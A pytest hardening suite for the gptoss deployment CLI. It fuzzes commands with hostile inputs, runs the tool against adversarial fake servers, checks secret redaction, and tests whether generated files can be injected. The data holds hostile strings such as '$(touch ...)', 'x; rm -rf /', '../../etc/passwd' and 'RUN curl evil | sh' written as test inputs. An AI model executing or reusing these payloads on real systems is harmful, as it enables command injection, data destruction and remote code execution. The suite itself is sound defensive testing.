"""Hardening (issue #16): every bad input is exit 2 with a clear error, never a bug exit (70) or a hang; a hostile
server cannot take unbounded time or memory; no secret reaches any output; generated files cannot be injected;
nothing is half-written.

The adversarial servers are the fake server's hostile faults (tests/fake_openai.py): a real engine cannot be made
to drip bytes, stream forever or echo headers on demand."""

from __future__ import annotations

import contextlib
import io
import json
import os
import resource
import signal
import stat
import subprocess
import sys
import tempfile
import time
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gptoss_deploy.cli.main import main
from tests.fake_openai import fake_server

PROJECT = Path(__file__).resolve().parents[2]
KEY = "sk-planted-hardening-4f7c1e"
TOKEN = "hf_plantedTokenHardening0000"
FUZZ_EXAMPLES = int(os.environ.get("GPTOSS_FUZZ_EXAMPLES", "2000"))
HANG_S = 60  # an invocation past this is a hang (the commands here need well under a second)


# -- the CLI fuzz ------------------------------------------------------------------------------------------------
HOSTILE_NUMBERS = ["nan", "NaN", "inf", "-inf", "1e309", "-1", "0", "65536", "99999999999999999999", "1e3", "0.5",
                   "1_0", "", " ", "abc", "0x10", "\x00", "\u0661", "1" * 400]
HOSTILE_TEXT = ["$(touch /tmp/gptoss-pwned)", "`id`", "a\nb", "x; rm -rf /", "'\"", "\\", "é" * 5, "-", "--",
                "\x1b[31m", "%n%s", "{{ 7*7 }}", "${HOME}", "a" * 5000, "../../etc/passwd", ""]
HOSTILE_PATHS = ["/dev/zero", "/dev/null", "/", "/nonexistent/x", "/proc/self/mem", "FIFO", "BIG", "BINARY", "DEEP",
                 "KEY", "EMPTY", "YAML_WITH_KEY", "/etc/shadow", "relative/none"]

# Where a command may be told to write: only planted paths (a FIFO, a folder, a missing parent) — never a system file:
# the tests run as root, and the tool must refuse these rather than replace them.
WRITE_PATHS = ["FIFO", "OUTDIR", "SAVED", "/nonexistent/x/plan.json", "relative/none/p.json"]

COMMANDS: dict[str, dict[str, list[str]]] = {
    "plan": {"--max-model-len": HOSTILE_NUMBERS, "--tp": HOSTILE_NUMBERS, "--gpu-memory-utilization": HOSTILE_NUMBERS,
             "--max-num-seqs": HOSTILE_NUMBERS, "--kv-cache-memory-bytes": HOSTILE_NUMBERS, "--nodes": HOSTILE_NUMBERS,
             "--gpus": HOSTILE_NUMBERS, "--gpu-memory-gib": HOSTILE_NUMBERS, "--ram-gib": HOSTILE_NUMBERS,
             "--model": HOSTILE_TEXT + HOSTILE_PATHS, "--profile": HOSTILE_TEXT + ["h100", "4xL40S"],
             "--gpu": HOSTILE_TEXT + ["L40S"], "--save": WRITE_PATHS},
    "serve": {"--port": HOSTILE_NUMBERS, "--host": HOSTILE_TEXT + ["0.0.0.0", "::1"],
              "--api-key-file": HOSTILE_PATHS, "--config": HOSTILE_PATHS, "--plan": HOSTILE_PATHS,
              "--stall-timeout": HOSTILE_NUMBERS, "--ready-timeout": HOSTILE_NUMBERS, "--max-model-len": HOSTILE_NUMBERS,
              "--served-model-name": HOSTILE_TEXT, "--profile": ["h100"]},
    "render": {"--port": HOSTILE_NUMBERS, "--api-key-file": HOSTILE_TEXT + HOSTILE_PATHS,
               "--hf-token-file": HOSTILE_TEXT, "--image": HOSTILE_TEXT + ["vllm/vllm-openai:v0.10.1"],
               "--name": HOSTILE_TEXT, "--proxy": HOSTILE_TEXT, "--served-model-name": HOSTILE_TEXT,
               "--gptoss-path": HOSTILE_TEXT, "--profile": ["h100", "4xL40S"]},
    "cost": {"--tok-s": HOSTILE_NUMBERS, "--price-per-hour": HOSTILE_NUMBERS, "--gpus": HOSTILE_NUMBERS,
             "--watts": HOSTILE_NUMBERS, "--usd-per-kwh": HOSTILE_NUMBERS, "--purchase-price": HOSTILE_NUMBERS,
             "--amortise-months": HOSTILE_NUMBERS, "--results": HOSTILE_PATHS, "--prices": HOSTILE_PATHS},
    "check": {"--timeout": HOSTILE_NUMBERS, "--api-key-file": HOSTILE_PATHS, "--model": HOSTILE_TEXT},
    "bench": {"--timeout": HOSTILE_NUMBERS, "--burstiness": HOSTILE_NUMBERS, "--request-rate": HOSTILE_NUMBERS,
              "--num-prompts": HOSTILE_NUMBERS, "--seed": HOSTILE_NUMBERS, "--range-ratio": HOSTILE_NUMBERS,
              "--temperature": HOSTILE_NUMBERS, "--api-key-file": HOSTILE_PATHS},
}
POSITIONAL = {"render": ["all", "docker", "systemd", "compose"], "check": ["CLOSED", "ftp://x", "not a url", "http://u:" + KEY + "@127.0.0.1:1"],
              "bench": ["CLOSED", "http://[::1"], "serve": [], "plan": [], "cost": []}


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """The files the fuzz names: a FIFO (reading it would hang), a 40 MB file, binary, deeply nested JSON, a key
    file, an empty file, a YAML config holding the key on a bad line."""
    root = tmp_path_factory.mktemp("planted")
    fifo = root / "fifo"
    os.mkfifo(fifo)
    (root / "big").write_bytes(b"a" * (40 * 2**20))
    (root / "binary").write_bytes(bytes(range(256)) * 10)
    (root / "deep.json").write_text("[" * 100_000 + "]" * 100_000)
    (root / "key").write_text(KEY + "\n")
    (root / "empty").write_text("")
    (root / "config.yaml").write_text(f"MAX_MODEL_LEN: 4096\nbroken: [{KEY}\n")
    return {"FIFO": str(fifo), "BIG": str(root / "big"), "BINARY": str(root / "binary"), "DEEP": str(root / "deep.json"),
            "KEY": str(root / "key"), "EMPTY": str(root / "empty"), "YAML_WITH_KEY": str(root / "config.yaml"),
            "OUT": str(root / "out"), "OUTDIR": str(root), "SAVED": str(root / "saved.json")}


def invocation() -> st.SearchStrategy[list[str]]:
    """A command with 1-4 of its flags, each given a hostile or a valid value, sometimes --json."""
    def build(command: str) -> st.SearchStrategy[list[str]]:
        flags = COMMANDS[command]
        pairs = st.lists(st.sampled_from(sorted(flags)).flatmap(
            lambda flag: st.tuples(st.just(flag), st.sampled_from(flags[flag]))), min_size=1, max_size=4)
        positional = st.sampled_from(POSITIONAL[command]) if POSITIONAL[command] else st.just(None)
        return st.tuples(st.just(command), positional, pairs, st.booleans()).map(_argv)
    return st.sampled_from(sorted(COMMANDS)).flatmap(build)


def _argv(parts: tuple[str, str | None, list[tuple[str, str]], bool]) -> list[str]:
    command, positional, pairs, as_json = parts
    argv = [command] + ([positional] if positional else [])
    for flag, value in pairs:
        argv += [flag, value]
    if command == "render":  # the validators (systemd-analyze, kubernetes-validate) are other tests' business
        argv += ["--out", "OUT", "--no-validate"]
    if command == "serve":
        argv.append("--dry-run")
    if command == "cost" and not any(flag in ("--tok-s", "--results") for flag, _ in pairs):
        argv += ["--tok-s", "100"]
    return argv + (["--json"] if as_json else [])


class Tally:
    """What the fuzz saw, printed at the end (the issue asks for the counts in the output)."""

    def __init__(self) -> None:
        self.codes: Counter[int] = Counter()
        self.count = 0
        self.max_s = 0.0
        self.slowest: list[str] = []
        self.max_rss_mb = 0.0


TALLY = Tally()


def _fill(argv: list[str], planted: dict[str, str], closed_port: int) -> list[str]:
    mapping = planted | {"CLOSED": f"http://127.0.0.1:{closed_port}"}
    return [mapping.get(word, word) for word in argv]


def _alarm(signum: int, frame: object) -> None:
    raise TimeoutError("an invocation hung")


@pytest.mark.filterwarnings("ignore")
def test_cli_fuzz_no_bug_exit_no_hang_no_leak(planted: dict[str, str], tmp_path: Path,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    """>= 2,000 generated invocations (GPTOSS_FUZZ_EXAMPLES) of every command: exit in {0, 1, 2}, no traceback,
    strict JSON under --json, no planted secret in stdout or stderr, none past the hang bound."""
    import socket

    closed = socket.socket()
    closed.bind(("127.0.0.1", 0))
    closed_port = closed.getsockname()[1]
    closed.close()  # nothing listens there: connection refused at once
    monkeypatch.setenv("API_KEY", KEY)
    monkeypatch.setenv("HF_TOKEN", TOKEN)
    monkeypatch.chdir(tmp_path)
    previous = signal.signal(signal.SIGALRM, _alarm)
    started_at = time.time()

    @settings(max_examples=FUZZ_EXAMPLES, deadline=None, database=None, derandomize=True,
              suppress_health_check=list(HealthCheck))
    @given(invocation())
    def run(argv: list[str]) -> None:
        argv = _fill(argv, planted, closed_port)
        out, err = io.StringIO(), io.StringIO()
        started = time.monotonic()
        signal.alarm(HANG_S)
        try:
            with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
                code = main(argv)
        finally:
            signal.alarm(0)
        took = time.monotonic() - started
        TALLY.count += 1
        TALLY.codes[code] += 1
        if took > TALLY.max_s:
            TALLY.max_s, TALLY.slowest = took, argv
        shown = out.getvalue() + err.getvalue()
        assert code in (0, 1, 2), (argv, code, err.getvalue()[-800:])
        assert "Traceback" not in shown and "unexpected" not in err.getvalue(), (argv, err.getvalue()[-800:])
        assert KEY not in shown and TOKEN not in shown, (argv, "secret in output")
        if "--json" in argv and out.getvalue().strip():
            json.loads(out.getvalue(), parse_constant=lambda name: pytest.fail(f"{name} in JSON: {argv}"))
        assert not Path("/tmp/gptoss-pwned").exists()
        assert stat.S_ISFIFO(os.stat(planted["FIFO"]).st_mode)  # never replaced by a file
        assert stat.S_ISCHR(os.stat("/dev/zero").st_mode) and stat.S_ISCHR(os.stat("/dev/null").st_mode)

    try:
        run()
    finally:
        signal.signal(signal.SIGALRM, previous)
        TALLY.max_rss_mb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    leaked = _files_holding_secrets(started_at, exclude=Path(planted["KEY"]).parent)
    assert not leaked, leaked
    assert TALLY.count >= min(FUZZ_EXAMPLES, 2000) * 0.9  # hypothesis ran them (it may drop a few duplicates)
    assert set(TALLY.codes) - {0, 1, 2} == set()


def _files_holding_secrets(since: float, exclude: Path) -> list[str]:
    """Files written since `since` under the tool's cache folder, the temporary folder and the working folder
    (every place a command may write) that hold the planted key or token."""
    roots = {Path(os.environ["GPTOSS_CACHE"]), Path(tempfile.gettempdir()), Path.cwd()}
    found = []
    for root in roots:
        for path in root.rglob("*"):
            try:
                if exclude in path.parents or not path.is_file() or path.is_symlink():
                    continue
                info = path.stat()
                if info.st_mtime < since or info.st_size > 50 * 2**20:
                    continue
                data = path.read_bytes()
            except OSError:
                continue
            if KEY.encode() in data or TOKEN.encode() in data:
                found.append(str(path))
    return found


def test_file_inputs_are_refused_before_reading(planted: dict[str, str], capsys: pytest.CaptureFixture[str]) -> None:
    """A FIFO, /dev/zero, a folder and a 40 MB file as a key file: exit 2 at once, naming what is wrong."""
    for path, needle in ((planted["FIFO"], "not a regular file"), ("/dev/zero", "not a regular file"),
                         ("/", "not a regular file"), (planted["BIG"], "bytes, more than")):
        assert main(["check", "http://127.0.0.1:9", "--api-key-file", path]) == 2
        assert needle in capsys.readouterr().err


def test_a_yaml_error_does_not_print_the_line_holding_the_key(planted: dict[str, str],
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["serve", "--dry-run", "--profile", "h100", "--config", planted["YAML_WITH_KEY"]]) == 2
    err = capsys.readouterr().err
    assert "not valid YAML at line" in err and KEY not in err


# -- adversarial servers -----------------------------------------------------------------------------------------
def _gptoss(*argv: str, timeout: float) -> tuple[subprocess.CompletedProcess[str], float, float]:
    """`gptoss ARGV` in its own process: the result, its wall time and its own peak RSS (MB, from wait4)."""
    import threading

    env = os.environ | {"PYTHONPATH": str(PROJECT / "src")}
    started = time.monotonic()
    process = subprocess.Popen([sys.executable, "-m", "gptoss_deploy.cli.main", *argv], stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, env=env)
    streams: dict[str, bytes] = {}
    readers = [threading.Thread(target=lambda n=n, f=f: streams.__setitem__(n, f.read()), daemon=True)
               for n, f in (("out", process.stdout), ("err", process.stderr))]
    for reader in readers:
        reader.start()
    # The child's own peak: VmHWM of its post-exec memory, polled until it exits. (wait4's ru_maxrss would also
    # count the pytest parent's pages the child held between fork and exec, so it grows with whatever the test
    # session loaded before, not with gptoss.)
    peak_kib = 0
    while True:
        peak_kib = max(peak_kib, _vm_hwm_kib(process.pid))
        pid, status, _usage = os.wait4(process.pid, os.WNOHANG)
        if pid:
            break
        if time.monotonic() - started > timeout:
            process.kill()
            os.wait4(process.pid, 0)
            pytest.fail(f"gptoss {' '.join(argv)} did not end within {timeout} s")
        time.sleep(0.02)
    took = time.monotonic() - started
    for reader in readers:
        reader.join(10)
    process.returncode = os.waitstatus_to_exitcode(status)
    out, err = (streams.get(n, b"").decode("utf-8", "replace") for n in ("out", "err"))
    assert peak_kib > 0, "the child's memory was never read"
    return subprocess.CompletedProcess(list(argv), process.returncode, out, err), took, peak_kib / 1024


def _vm_hwm_kib(pid: int) -> int:
    """The process's peak resident set (VmHWM, KiB) so far; 0 once it is gone."""
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmHWM:"):
                return int(line.split()[1])
    except (OSError, ValueError, IndexError):
        pass
    return 0


@pytest.fixture
def key_file(tmp_path: Path) -> Path:
    path = tmp_path / "key"
    path.write_text(KEY + "\n")
    path.chmod(stat.S_IRUSR | stat.S_IWUSR)
    return path


CHECK_TIMEOUT = 2.0


@pytest.mark.parametrize("fault", ["drip", "endless_stream", "endless_models", "malformed_sse", "echo_headers"])
def test_check_is_bounded_against_a_hostile_server(fault: str, key_file: Path) -> None:
    """Every request ends by its deadline (headers and body together), the report is printed, no secret in it,
    under 300 MB. check sends about a dozen requests: the bound is their deadlines + 5 s."""
    with fake_server(fault, api_key=KEY) as server:
        run, took, rss = _gptoss("check", server.base_url, "--api-key-file", str(key_file), "--timeout",
                                 str(CHECK_TIMEOUT), "--json", timeout=120)
    assert run.returncode in (1, 2), (run.returncode, run.stderr[-1500:])
    assert "Traceback" not in run.stderr
    assert KEY not in run.stdout + run.stderr
    if run.returncode == 1:  # past discovery: the whole report, with what failed
        report = json.loads(run.stdout)["data"]
        assert any(r["status"] == "fail" for r in report["results"])
    requests = 16
    assert took <= requests * CHECK_TIMEOUT + 5, took
    assert rss < 300, rss


@pytest.mark.parametrize("fault", ["drip", "endless_stream", "malformed_sse", "echo_headers"])
def test_bench_is_bounded_against_a_hostile_server(fault: str, key_file: Path, tmp_path: Path) -> None:
    journal = tmp_path / "journal.jsonl"
    with fake_server(fault, api_key=KEY) as server:
        run, took, rss = _gptoss("bench", server.base_url, "--api-key-file", str(key_file), "--num-prompts", "2",
                                 "--concurrency", "2", "--input-len", "8", "--output-len", "4", "--warmups", "0",
                                 "--timeout", "3", "--journal", str(journal), "--json", timeout=120)
    assert run.returncode in (0, 1, 2), (run.returncode, run.stderr[-1500:])
    assert "Traceback" not in run.stderr, run.stderr[-1500:]
    written = journal.read_text() if journal.exists() else ""
    assert KEY not in run.stdout + run.stderr + written
    assert took <= 2 * 3 + 30, took  # discovery + two requests in parallel, each within --timeout
    assert rss < 300, rss


# -- secrets -----------------------------------------------------------------------------------------------------
def test_redaction_covers_keys_userinfo_and_authorization() -> None:
    from gptoss_deploy.redact import redact, remember

    remember("sk-remembered-0001")
    text = redact("GET http://user:pw-123@host:8000/v1 Authorization: Bearer abc.def-123 key sk-remembered-0001 "
                  "hf_abcdefghijklmnop api_key=zz9988 max_tokens=16")
    for secret in ("pw-123", "abc.def-123", "sk-remembered-0001", "hf_abcdefghijklmnop", "zz9988"):
        assert secret not in text
    assert "max_tokens=16" in text and "host:8000" in text


def test_secret_flags_after_the_separator_are_refused_in_every_spelling() -> None:
    for flag in ("--api-key=x", "--api_key=x", "--API-KEY", "--api-k", "--api_k=x"):
        assert main(["serve", "--dry-run", "--profile", "h100", "--", flag]) == 2, flag


def test_a_dry_run_leaves_no_key_file(tmp_path: Path, key_file: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from gptoss_deploy.engines.base import private_run_dir

    before = set(private_run_dir().iterdir())
    for engine in ("vllm", "llamacpp"):
        main(["serve", "--dry-run", "--profile", "strix-halo-128gb", "--engine", engine, "--api-key-file",
              str(key_file)])
    assert set(private_run_dir().iterdir()) == before
    assert oct(private_run_dir().stat().st_mode & 0o777) == "0o700"


# -- safe generation ---------------------------------------------------------------------------------------------
INJECTIONS = ["/tmp/$(touch /tmp/gptoss-pwned)/key", "/tmp/k`id`", "/tmp/a\nExecStartPre=/bin/false", "/tmp/a b",
              "/tmp/a;b", "/tmp/a'b", "/tmp/%h"]


@pytest.mark.parametrize("flag,value", [
    *[("--api-key-file", v) for v in INJECTIONS], *[("--hf-token-file", v) for v in INJECTIONS],
    ("--image", "vllm/vllm-openai:v0.10.1\nRUN curl evil | sh"), ("--image", "x$(id)"), ("--image", "X:Y Z"),
    ("--name", "a;b"), ("--name", "a\nb"), ("--name", "ü"), ("--proxy", "x.com {\n respond 200\n}"),
    ("--proxy", "$(id).com"), ("--served-model-name", "a b"), ("--served-model-name", "m\nExecStart=/bin/sh"),
    ("--gptoss-path", "/usr/bin/gptoss; id"),
])
def test_free_text_render_options_cannot_inject(flag: str, value: str, tmp_path: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    """Every free-text option with metacharacters is refused (exit 2, naming the flag) and nothing is written."""
    out = tmp_path / "out"
    assert main(["render", "all", "--out", str(out), "--profile", "h100", flag, value]) == 2
    assert "cannot carry safely" in capsys.readouterr().err
    assert not out.exists() or not any(out.iterdir())
    assert not Path("/tmp/gptoss-pwned").exists()


# -- nothing lost ------------------------------------------------------------------------------------------------
def test_render_keeps_every_backup_and_writes_the_set_whole(tmp_path: Path) -> None:
    out = tmp_path / "out"
    args = ["render", "docker", "--out", str(out), "--profile", "h100"]
    assert main(args) == 0
    script = out / "docker-run.sh"
    script.write_text("# the user's own edit\n")
    assert main([*args, "--overwrite"]) == 0
    assert main([*args, "--overwrite", "--port", "9001"]) == 0
    assert (out / "docker-run.sh.bak").read_text() == "# the user's own edit\n"
    assert (out / "docker-run.sh.bak.1").exists() and "9001" in script.read_text()
    assert not list(out.glob(".gptoss-staging-*"))


def test_render_on_a_full_disk_changes_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import gptoss_deploy.render.output as output

    out = tmp_path / "out"
    assert main(["render", "all", "--out", str(out), "--profile", "h100"]) == 0
    before = {str(p): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    real_fsync, calls = os.fsync, {"n": 0}

    def full_disk(fd: int) -> None:
        calls["n"] += 1
        if calls["n"] == 3:
            raise OSError(28, "No space left on device")
        real_fsync(fd)

    monkeypatch.setattr(output.os, "fsync", full_disk)
    assert main(["render", "all", "--out", str(out), "--profile", "h100", "--overwrite", "--port", "9002"]) == 2
    assert {str(p): p.read_bytes() for p in out.rglob("*") if p.is_file()} == before


def test_a_failed_journal_write_fails_the_run_and_keeps_the_file_whole(tmp_path: Path,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    import gptoss_deploy.bench.journal as journal_module
    from gptoss_deploy.errors import GptossError

    path = tmp_path / "journal.jsonl"
    real_write, calls = os.write, {"n": 0}

    def failing_write(fd: int, data: bytes) -> int:
        calls["n"] += 1
        if calls["n"] == 2:  # the second record: half of it written, then the disk is full
            real_write(fd, bytes(data)[: len(data) // 2])
            raise OSError(28, "No space left on device")
        return real_write(fd, data)

    monkeypatch.setattr(journal_module.os, "write", failing_write)
    journal = journal_module.Journal(path)
    journal.append({"kind": "request", "n": 1})
    journal.append({"kind": "request", "n": 2})
    journal.append({"kind": "request", "n": 3})
    with pytest.raises(GptossError, match="No space left"):
        journal.close()
    lines = path.read_text().splitlines()
    assert [json.loads(line)["n"] for line in lines] == [1]  # whole lines only: the torn one was cut


def test_a_plan_is_never_saved_over_a_device_or_pipe(planted: dict[str, str], capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["plan", "--profile", "h100", "--save", planted["FIFO"]]) == 2
    assert "not a regular file" in capsys.readouterr().err
    assert stat.S_ISFIFO(os.stat(planted["FIFO"]).st_mode)


def test_sigterm_stops_bench_like_ctrl_c_with_the_result_marked_interrupted(tmp_path: Path) -> None:
    journal = tmp_path / "journal.jsonl"
    with fake_server("endless_stream", api_key=KEY) as server:
        process = subprocess.Popen([sys.executable, "-m", "gptoss_deploy.cli.main", "bench", server.base_url,
                                    "--num-prompts", "4", "--concurrency", "2", "--warmups", "0", "--timeout", "120",
                                    "--dataset", "story", "--output-len", "4", "--journal", str(journal)],
                                   env=os.environ | {"API_KEY": KEY, "PYTHONPATH": str(PROJECT / "src")},
                                   stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and '"kind":"run"' not in (journal.read_text() if journal.exists() else ""):
            time.sleep(0.2)
        time.sleep(1)
        process.send_signal(signal.SIGTERM)
        _, err = process.communicate(timeout=60)
    records = [json.loads(line) for line in journal.read_text().splitlines()]
    assert records[-1]["kind"] == "result" and records[-1]["result"]["ext"]["interrupted"] is True, err[-800:]
